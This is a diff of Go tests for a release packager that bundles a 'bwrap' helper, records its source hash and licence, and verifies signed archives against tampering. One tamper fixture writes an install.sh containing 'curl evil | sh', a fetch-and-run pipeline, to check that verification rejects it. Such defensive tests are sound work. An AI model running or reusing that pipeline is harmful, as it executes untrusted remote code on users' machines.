@@ -26,7 +26,7 @@ import (
 func runRelease(t *testing.T, repo string, o Options) (string, error) {
 	t.Helper()
 	var log bytes.Buffer
-	o.Root, o.ReuseBuild, o.Log = repo, true, &log
+	o.Root, o.ReuseBuild, o.Log, o.SourceCache = repo, true, &log, fixtureCache
 	if o.Until == 0 {
 		o.Until = Verify
 	}
@@ -195,7 +195,8 @@ func TestArchivesAreNormalised(t *testing.T) {
 		}
 	}
 	prefix := "tern-" + fixtureVersion + "-linux-x64/"
-	want := []string{prefix, prefix + "LICENSE", prefix + "THIRD_PARTY_NOTICES.md", prefix + "bin/", prefix + "bin/tern"}
+	want := []string{prefix, prefix + "LICENSE", prefix + "THIRD_PARTY_NOTICES.md", prefix + "bin/", prefix + "bin/tern",
+		prefix + "libexec/", prefix + "libexec/tern/", prefix + "libexec/tern/bwrap"}
 	if strings.Join(names, ",") != strings.Join(want, ",") {
 		t.Fatalf("entries %v, want %v in this order", names, want)
 	}
@@ -395,6 +396,10 @@ func TestVerifyRefusesTampering(t *testing.T) {
 			editTarGz(t, filepath.Join(dir, x64), addMember(tar.Header{Name: prefix + "bin/sh", Linkname: "../../../bin/sh", Mode: 0o777, Typeflag: tar.TypeSymlink}, nil))
 			reseal(t, dir, priv, nil)
 		}, []string{"is a link leading out of the tree"}},
+		{"a shipped helper", func(t *testing.T, dir string) {
+			editTarGz(t, filepath.Join(dir, x64), setMember("libexec/tern/bwrap", []byte("#!/bin/sh\necho evil\n")))
+			reseal(t, dir, priv, nil)
+		}, []string{x64 + ": helper bwrap has sha256"}},
 		{"a file no checksum covers", func(t *testing.T, dir string) {
 			writeFile(t, filepath.Join(dir, "install.sh"), "curl evil | sh\n")
 		}, []string{"install.sh: is in the release but not in SHA256SUMS"}},
@@ -513,4 +518,78 @@ func mustKeyPEM(t *testing.T) string {
 func sha256Hex(b []byte) string {
 	sum := sha256.Sum256(b)
 	return hex.EncodeToString(sum[:])
+}
+
+func TestHelpersAreRecordedWithTheirSourceAndLicence(t *testing.T) {
+	dir := mustRelease(t, newRepo(t), Options{Snapshot: true})
+	m, err := manifest.Read(filepath.Join(dir, manifest.FileName))
+	if err != nil {
+		t.Fatal(err)
+	}
+	patched := sha256Hex([]byte(fakeHelperPatched))
+	for _, a := range m.Artifacts {
+		linux := strings.Contains(a.Name, "linux")
+		if got := len(a.Helpers); (linux && got != 1) || (!linux && got != 0) {
+			t.Fatalf("%s lists %d helpers", a.Name, got)
+		}
+		if linux {
+			h := a.Helpers[0]
+			if h.Name != "bwrap" || h.Version != "1.0" || h.SHA256 != patched || h.Source == nil ||
+				h.Source.SHA256 != sha256Hex(fakeHelperSource) || h.Source.License != "MIT" {
+				t.Fatalf("%s: helper recorded as %+v (source %+v)", a.Name, h, h.Source)
+			}
+		}
+	}
+	stage := filepath.Join(filepath.Dir(dir), "stage", "linux-x64")
+	notices, err := os.ReadFile(filepath.Join(stage, "THIRD_PARTY_NOTICES.md"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, want := range []string{"## bwrap 1.0 (MIT), helper binary built from", sha256Hex(fakeHelperSource), "Fake helper licence, MIT."} {
+		if !strings.Contains(string(notices), want) {
+			t.Errorf("THIRD_PARTY_NOTICES.md lacks %q", want)
+		}
+	}
+	if b, _ := os.ReadFile(filepath.Join(stage, "libexec", "tern", "bwrap")); string(b) != fakeHelperPatched {
+		t.Fatalf("the staged helper is %q, want the patched script", b)
+	}
+}
+
+func TestHelperBuildFailuresNameTheRemedy(t *testing.T) {
+	for _, tc := range []struct {
+		name  string
+		edit  func(t *testing.T, repo string)
+		cache string
+		want  []string
+	}{
+		{"an output that differs from the lock", func(t *testing.T, repo string) {
+			writeFile(t, filepath.Join(repo, "third_party", "fake", "lock.yaml"), "linux-x64: "+strings.Repeat("0", 64)+"\n")
+		}, "", []string{"built to sha256 " + sha256Hex([]byte(fakeHelperPatched)), "expects " + strings.Repeat("0", 64), "--update-lock"}},
+		{"a patch that is not the pinned one", func(t *testing.T, repo string) {
+			writeFile(t, filepath.Join(repo, "third_party", "fake", "patches", "0001-patched.patch"), fakeHelperPatch+" \n")
+		}, "", []string{"0001-patched.patch has sha256", "want " + sha256Hex([]byte(fakeHelperPatch))}},
+		{"a source missing from the cache", nil, "empty", []string{"is not in", "packager helpers fetch"}},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			repo := newRepo(t)
+			if tc.edit != nil {
+				tc.edit(t, repo)
+			}
+			o := Options{Snapshot: true}
+			var log bytes.Buffer
+			o.Root, o.ReuseBuild, o.Log, o.Until, o.SourceCache = repo, true, &log, Verify, fixtureCache
+			if tc.cache == "empty" {
+				o.SourceCache = t.TempDir()
+			}
+			_, err := Run(context.Background(), o)
+			for _, w := range tc.want {
+				if err == nil || !strings.Contains(err.Error(), w) {
+					t.Errorf("err = %v, want it to say %q", err, w)
+				}
+			}
+			if _, err := os.Stat(ReleaseDir(repo)); err == nil {
+				t.Errorf("a failed helper build must not leave a release")
+			}
+		})
+	}
 }
